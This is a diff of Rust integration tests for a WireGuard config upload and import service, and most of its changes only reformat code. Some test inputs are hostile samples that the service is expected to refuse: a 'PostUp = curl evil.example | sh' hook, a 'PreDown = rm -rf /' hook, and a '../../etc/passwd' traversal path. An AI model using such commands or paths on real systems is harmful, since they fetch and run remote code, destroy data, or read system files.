@@ -33,7 +33,13 @@ pub async fn admin_app() -> (TestApp, String) {
     (app, token)
 }
 
-pub async fn upload(app: &TestApp, token: &str, file_name: &str, body: impl Into<Vec<u8>>, fields: &[(&str, &str)]) -> reqwest::Response {
+pub async fn upload(
+    app: &TestApp,
+    token: &str,
+    file_name: &str,
+    body: impl Into<Vec<u8>>,
+    fields: &[(&str, &str)],
+) -> reqwest::Response {
     let mut form = Form::new().part("file", Part::bytes(body.into()).file_name(file_name.to_string()));
     for (k, v) in fields {
         form = form.text(k.to_string(), v.to_string());
@@ -188,7 +194,13 @@ fn refusals() -> Vec<Refusal> {
         ("a.conf", no_interface.into_bytes(), vec![], 422, "parse_error"),
         ("a.conf", two_interfaces.into_bytes(), vec![], 422, "parse_error"),
         ("a.conf", no_peer.into_bytes(), vec![], 422, "parse_error"),
-        ("a.conf", conf("10.77.0.0/24").replace(PEER_KEY, "AgICAgICAgICAgICAgICAgICAgICAgICAgICAgIC").into_bytes(), vec![], 422, "parse_error"),
+        (
+            "a.conf",
+            conf("10.77.0.0/24").replace(PEER_KEY, "AgICAgICAgICAgICAgICAgICAgICAgICAgICAgIC").into_bytes(),
+            vec![],
+            422,
+            "parse_error",
+        ),
         ("a.conf", conf("10.77.0.0/24").replace(PRIVATE_KEY, "not base64 at all!").into_bytes(), vec![], 422, "parse_error"),
         ("a.conf", conf_with("10.77.0.0/24", "PostUp = curl evil.example | sh").into_bytes(), vec![], 422, "hook_refused"),
         ("a.conf", conf_with("10.77.0.0/24", "PreDown = rm -rf /").into_bytes(), vec![], 422, "hook_refused"),
@@ -240,7 +252,8 @@ async fn names_and_subnets_must_be_unique_and_concurrent_uploads_do_not_race() {
     let (app, token) = admin_app().await;
     assert_eq!(upload(&app, &token, "site-a.conf", conf("10.77.0.0/24"), &[]).await.status(), 201);
     assert_problem(upload(&app, &token, "site-a.conf", conf("10.78.0.0/24"), &[]).await, 409, "name_taken").await;
-    let body = assert_problem(upload(&app, &token, "site-b.conf", conf("10.77.0.128/25"), &[]).await, 422, "subnet_overlap").await;
+    let body =
+        assert_problem(upload(&app, &token, "site-b.conf", conf("10.77.0.128/25"), &[]).await, 422, "subnet_overlap").await;
     assert!(body["detail"].as_str().unwrap().contains("site-a"), "the conflict is named: {body}");
     // A host interface name is taken too.
     assert_problem(upload(&app, &token, "lo.conf", conf("10.79.0.0/24"), &[]).await, 409, "name_taken").await;
@@ -250,7 +263,8 @@ async fn names_and_subnets_must_be_unique_and_concurrent_uploads_do_not_race() {
     for i in 0..8 {
         let (url, token) = (app.url("/api/clients/upload"), token.clone());
         tasks.spawn(async move {
-            let form = Form::new().part("file", Part::bytes(conf("10.90.0.0/24").into_bytes()).file_name(format!("race{i}.conf")));
+            let form =
+                Form::new().part("file", Part::bytes(conf("10.90.0.0/24").into_bytes()).file_name(format!("race{i}.conf")));
             reqwest::Client::new().post(url).bearer_auth(token).multipart(form).send().await.unwrap().status().as_u16()
         });
     }
@@ -273,13 +287,15 @@ async fn uploads_need_an_admin_and_a_csrf_token_with_cookies() {
 
     let res = reqwest::Client::new().post(app.url("/api/clients/upload")).multipart(form()).send().await.unwrap();
     assert_problem(res, 401, "unauthenticated").await;
-    let res = reqwest::Client::new().post(app.url("/api/clients/upload")).bearer_auth(&op).multipart(form()).send().await.unwrap();
+    let res =
+        reqwest::Client::new().post(app.url("/api/clients/upload")).bearer_auth(&op).multipart(form()).send().await.unwrap();
     assert_problem(res, 403, "forbidden").await;
     let csrf = app.login("admin").await;
     let res = app.client.post(app.url("/api/clients/upload")).multipart(form()).send().await.unwrap();
     assert_problem(res, 403, "csrf_failed").await;
     assert_eq!(app.wg_files(), Vec::<String>::new());
-    let res = app.client.post(app.url("/api/clients/upload")).header("x-csrf-token", csrf).multipart(form()).send().await.unwrap();
+    let res =
+        app.client.post(app.url("/api/clients/upload")).header("x-csrf-token", csrf).multipart(form()).send().await.unwrap();
     assert_eq!(res.status(), 201);
 }
 
@@ -289,7 +305,9 @@ async fn probe_host_changes_and_delete_removes_file_and_row() {
     let client: Value = upload(&app, &token, "site-a.conf", conf("10.77.0.0/24"), &[]).await.json().await.unwrap();
     let id = client["id"].as_i64().unwrap();
     let http = reqwest::Client::new();
-    let patch = |probe: &'static str| http.patch(app.url(&format!("/api/clients/{id}"))).bearer_auth(&token).json(&json!({ "probe_host": probe })).send();
+    let patch = |probe: &'static str| {
+        http.patch(app.url(&format!("/api/clients/{id}"))).bearer_auth(&token).json(&json!({ "probe_host": probe })).send()
+    };
 
     assert_problem(patch("10.78.0.1").await.unwrap(), 422, "probe_host_outside_subnet").await;
     assert_problem(patch("not-an-ip").await.unwrap(), 422, "invalid_probe_host").await;
@@ -323,9 +341,18 @@ async fn import_through_the_api_reports_per_file() {
     let reports: Vec<Value> = res.json().await.unwrap();
     let outcomes: Vec<(String, String)> = reports
         .iter()
-        .map(|r| (r["file"].as_str().unwrap().rsplit('/').next().unwrap().to_string(), r["outcome"].as_str().unwrap().to_string()))
+        .map(|r| {
+            (r["file"].as_str().unwrap().rsplit('/').next().unwrap().to_string(), r["outcome"].as_str().unwrap().to_string())
+        })
         .collect();
-    assert_eq!(outcomes, [("full.conf".into(), "needs_subnet".into()), ("good.conf".into(), "imported".into()), ("hook.conf".into(), "refused".into())]);
+    assert_eq!(
+        outcomes,
+        [
+            ("full.conf".into(), "needs_subnet".into()),
+            ("good.conf".into(), "imported".into()),
+            ("hook.conf".into(), "refused".into())
+        ]
+    );
     let hook = reports.iter().find(|r| r["code"] == "hook_refused").unwrap();
     assert!(hook["detail"].as_str().unwrap().starts_with("line "), "{hook}");
     // The imported file was replaced by peergate's rendering (DNS dropped); the refused ones are untouched.
@@ -333,12 +360,30 @@ async fn import_through_the_api_reports_per_file() {
     assert!(!good.contains("DNS"), "{good}");
     assert!(std::fs::read_to_string(app.wg_dir().join("hook.conf")).unwrap().contains("PostUp"));
 
-    let res = http.post(app.url("/api/clients/import")).bearer_auth(&token).json(&json!({"files": ["../../etc/passwd"]})).send().await.unwrap();
+    let res = http
+        .post(app.url("/api/clients/import"))
+        .bearer_auth(&token)
+        .json(&json!({"files": ["../../etc/passwd"]}))
+        .send()
+        .await
+        .unwrap();
     assert_problem(res, 422, "validation_failed").await;
-    let res = http.post(app.url("/api/clients/import")).bearer_auth(&token).json(&json!({"files": ["full.conf"], "subnet": "10.80.0.0/16"})).send().await.unwrap();
+    let res = http
+        .post(app.url("/api/clients/import"))
+        .bearer_auth(&token)
+        .json(&json!({"files": ["full.conf"], "subnet": "10.80.0.0/16"}))
+        .send()
+        .await
+        .unwrap();
     let reports: Vec<Value> = res.json().await.unwrap();
     assert_eq!(reports[0]["outcome"], "imported", "{reports:?}");
-    let res = http.post(app.url("/api/clients/import")).bearer_auth(&token).json(&json!({"files": ["good.conf"]})).send().await.unwrap();
+    let res = http
+        .post(app.url("/api/clients/import"))
+        .bearer_auth(&token)
+        .json(&json!({"files": ["good.conf"]}))
+        .send()
+        .await
+        .unwrap();
     let reports: Vec<Value> = res.json().await.unwrap();
     assert_eq!(reports[0]["outcome"], "skipped");
 }
